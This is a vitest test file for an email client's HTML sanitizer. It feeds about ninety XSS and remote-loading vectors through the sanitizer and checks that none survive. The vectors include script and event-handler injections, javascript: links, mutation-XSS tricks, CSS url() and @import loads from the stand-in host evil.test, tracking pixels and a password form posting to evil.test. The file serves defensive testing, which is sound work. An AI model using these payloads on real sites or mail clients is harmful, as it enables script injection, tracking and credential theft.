// @vitest-environment happy-dom
import { describe, expect, it } from 'vitest';
import { InlineImages } from './mail-images.ts';
import { readMimeTree } from './mime-tree.ts';
import { makeSafeHtml } from './safe-html.ts';

const noImages = new InlineImages(Buffer.alloc(0), []);
const clean = (html: string, showRemote = false) => makeSafeHtml([{ html }], noImages, showRemote);
const pixel =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Each tries to run, load, send or cover something. */
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0000>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\u0000=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<body onload=alert(1)>',
  '<div onmouseover="alert(1)" style="color:red">x</div>',
  '<details open ontoggle=alert(1)>x</details>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="blob:https://mayfly.test/x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="/temp-email">x</a>',
  '<iframe src="https://evil.test/"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="https://evil.test/x.swf"></object>',
  '<embed src="https://evil.test/x.swf">',
  '<applet code="X.class"></applet>',
  '<form action="https://evil.test/"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type=image src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
  '<svg><style><img src="</style><img src=x onerror=alert(1)>"></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<title><img src="</title><img src=x onerror=alert(1)>"></title>',
  '<textarea><img src="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<xmp><img src="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<template><script>alert(1)</script></template>',
  '<base href="https://evil.test/"><a href="x">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<link rel=stylesheet href="https://evil.test/x.css">',
  '<link rel=prefetch href="https://evil.test/">',
  '<style>@import url(https://evil.test/x.css);</style>',
  '<style>@import "https://evil.test/x.css"; p{color:red}</style>',
  '<style>p{background:url(https://evil.test/x.png)}</style>',
  '<style>p{background:u\\72l(https://evil.test/x.png)}</style>',
  '<style>@font-face{font-family:x;src:url(https://evil.test/x.woff)}</style>',
  '<style>a[href^="h"]{background-image:image-set("https://evil.test/x.png" 1x)}</style>',
  '<style></style ><script>alert(1)</script></style>',
  '<style>p{color:red}<\\/style><script>alert(1)</script>',
  '<style>x{content:"</style><script>alert(1)</script>"}</style>',
  '<style>@media screen{p{position:fixed;top:0}}</style>',
  '<p style="background:url(https://evil.test/x.png)">x</p>',
  '<p style="background:url(&quot;javascript:alert(1)&quot;)">x</p>',
  '<p style="background:\\75 rl(https://evil.test/x.png)">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="width:exp/**/ression(alert(1))">x</p>',
  '<p style="-moz-binding:url(https://evil.test/x.xml)">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999">x</p>',
  '<p style="list-style-image:url(https://evil.test/x.png)">x</p>',
  '<p style="color:red;}</style><script>alert(1)</script>">x</p>',
  '<img src="https://evil.test/x.png">',
  '<img srcset="https://evil.test/x.png 1x">',
  '<picture><source srcset="https://evil.test/x.png"><img src="https://evil.test/y.png"></picture>',
  '<video src="https://evil.test/x.mp4" poster="https://evil.test/x.png" autoplay></video>',
  '<audio src="https://evil.test/x.mp3" autoplay></audio>',
  '<track src="https://evil.test/x.vtt">',
  '<table background="https://evil.test/x.png"><tr><td background="https://evil.test/y.png">x</td></tr></table>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<img src="cid:unknown">',
  '<img src="//evil.test/x.png">',
  '<img lowsrc="https://evil.test/x.png" dynsrc="https://evil.test/x.avi" src=x>',
  '<a href="https://ok.test/" ping="https://evil.test/" download="x.exe" target="_top">x</a>',
  '<div id="location" name="cookie" contenteditable tabindex=1 accesskey=x>x</div>',
  '<!--><script>alert(1)</script>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<frameset><frame src="https://evil.test/"></frameset>',
  '<portal src="https://evil.test/"></portal>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<isindex action="javascript:alert(1)" type=image>',
  '"><script>alert(1)</script>',
  '</body></html><script>alert(1)</script>',
  '<p title="</p><script>alert(1)</script>">x</p>',
];

const harmlessAttributes = new Set(
  'align alt bgcolor border cellpadding cellspacing charset class color colspan content datetime dir face height href lang name nowrap open referrerpolicy rel rowspan size src start style target title type valign width'.split(
    ' ',
  ),
);
const forbidden =
  'script,iframe,object,embed,applet,form,input,button,select,textarea,svg,math,link,base,frame,frameset,portal,video,audio,source,track,template,noscript,picture,marquee';

function dangers(page: string, imagesAllowed: boolean): string[] {
  const document = new DOMParser().parseFromString(page, 'text/html');
  const found = [...document.querySelectorAll(forbidden)].map((element) => element.tagName);
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      const isMeta = element.tagName === 'META';
      if (!harmlessAttributes.has(name)) found.push(`${element.tagName} ${name}`);
      if (name === 'name' && !isMeta) found.push('name');
      if (name === 'href' && !/^(?:https?:|mailto:|tel:)/.test(value)) found.push(`href ${value}`);
      if (name === 'src' && !/^data:image\/(?:png|jpeg|gif|webp|avif|bmp);base64,/.test(value)) {
        if (!imagesAllowed || !/^https?:/.test(value)) found.push(`src ${value}`);
      }
      if (name === 'style' && /url|expression|@|\\|position|javascript/i.test(value))
        found.push(`style ${value}`);
    }
    if (element.tagName === 'META' && element.getAttribute('http-equiv') !== null) found.push('refresh');
    if (element.tagName === 'A' && element.hasAttribute('href')) {
      const rel = element.getAttribute('rel') ?? '';
      if (element.getAttribute('target') !== '_blank' || !rel.includes('noopener')) found.push('bare link');
    }
  }
  const sheets = [...document.querySelectorAll('style')].map((style) => style.textContent).join('\n');
  if (/url\s*\(|@import|@font-face|expression|\\|position|image-set|<|javascript/i.test(sheets))
    found.push(`sheet ${sheets}`);
  return found;
}

describe('makeSafeHtml', () => {
  it('is tried with at least 40 vectors, and its judge sees danger', () => {
    expect(vectors.length).toBeGreaterThanOrEqual(40);
    // What happy-dom would try to load is left out.
    const judged = vectors.filter(
      (vector) => !/<(?:iframe|link|frame|video|audio|script)|@import/i.test(vector),
    );
    expect(judged.filter((vector) => dangers(vector, false).length > 0).length).toBeGreaterThan(40);
  });

  it.each(vectors)('leaves nothing that runs or loads of %s', (vector) => {
    expect(dangers(clean(vector).html, false)).toEqual([]);
    expect(dangers(clean(vector, true).html, true)).toEqual([]);
    expect(dangers(clean(`<table><td><a href=x>${vector}`).html, false)).toEqual([]);
  });

  it('keeps what makes a mail look as meant', () => {
    const { html } = clean(
      '<style>@media (max-width:600px){.c{width:100%}} .b{color:#f00;position:fixed}</style><body bgcolor="#eeeeee"><table width="600" cellpadding="0"><tr><td class="b" style="font:bold 14px Arial;padding:4px" align="center">Hi</td></tr></table><a href="https://ok.test/?a=1&amp;b=2">ok</a>',
    );
    for (const kept of [
      '@media (max-width:600px){.c{width:100%}}',
      '.b{color:#f00}',
      '<div bgcolor="#eeeeee">',
      '<td class="b" align="center" style="font:bold 14px Arial;padding:4px">Hi</td>',
      '<a href="https://ok.test/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">ok</a>',
    ]) {
      expect(html).toContain(kept);
    }
  });

  it('counts blocked images and trackers apart', () => {
    const html = `<img src="https://x.test/a.png" width=600 alt="Sale"><img src="https://x.test/o" width=1 height=1>
      <img src="https://x.test/wf/open?u=1"><img src="https://x.test/h.png" style="display:none"><p style="background:url(https://x.test/b.png)">x</p>`;
    const blocked = clean(html);
    expect([blocked.blockedImages, blocked.trackers]).toEqual([2, 3]);
    expect(blocked.html).toContain('<span class="mayfly-image">Sale</span>');
  });

  it('lets pictures through once asked, trackers never', () => {
    const shown = clean(
      '<img src="https://x.test/a.png" alt="A"><img src="https://x.test/t.gif" width="1" height="1">',
      true,
    );
    expect(shown.html).toContain('<img alt="A" src="https://x.test/a.png" referrerpolicy="no-referrer" />');
    expect(shown.html).not.toContain('t.gif');
    expect([shown.blockedImages, shown.trackers]).toEqual([1, 1]);
  });

  it('inlines images of the message by their bytes, not by their label, up to 5 MB', () => {
    const part = (id: string, type: string, base64: string) =>
      `--q\r\nContent-Type: ${type}\r\nContent-ID: <${id}>\r\nContent-Transfer-Encoding: base64\r\n\r\n${base64}\r\n`;
    const large = Buffer.concat([Buffer.from(pixel, 'base64'), Buffer.alloc(3 * 1024 * 1024)]).toString(
      'base64',
    );
    const raw = Buffer.from(
      `Content-Type: multipart/related; boundary=q\r\n\r\n${part('a', 'application/octet-stream', pixel)}${part('b', 'image/png', 'PHN2Zz4=')}${part('c', 'image/png', large)}${part('d', 'image/png', large)}--q--`,
    );
    const images = new InlineImages(raw, readMimeTree(raw).root.children);
    const { html } = makeSafeHtml(
      [
        {
          html: '<img src="cid:a"><img src="cid:b" alt="no"><img src="cid:c" alt="big"><img src="cid:d" alt="more">',
        },
      ],
      images,
      false,
    );
    expect(html).toContain(`<img src="data:image/png;base64,${pixel}" />`);
    expect(html).toContain('<span class="mayfly-image">no</span>');
    expect(html).toContain('<span class="mayfly-image">more</span>');
    expect(html).toContain('<img alt="big" src="data:image/png');
  });

  it('escapes plain text and what stands in alt', () => {
    const { html } = makeSafeHtml([{ text: '<img src=x onerror=alert(1)> & more' }], noImages, false);
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt; &amp; more');
    expect(dangers(clean('<img src="http://x.test/y" alt="<script>alert(1)</script>">').html, false)).toEqual(
      [],
    );
  });
});
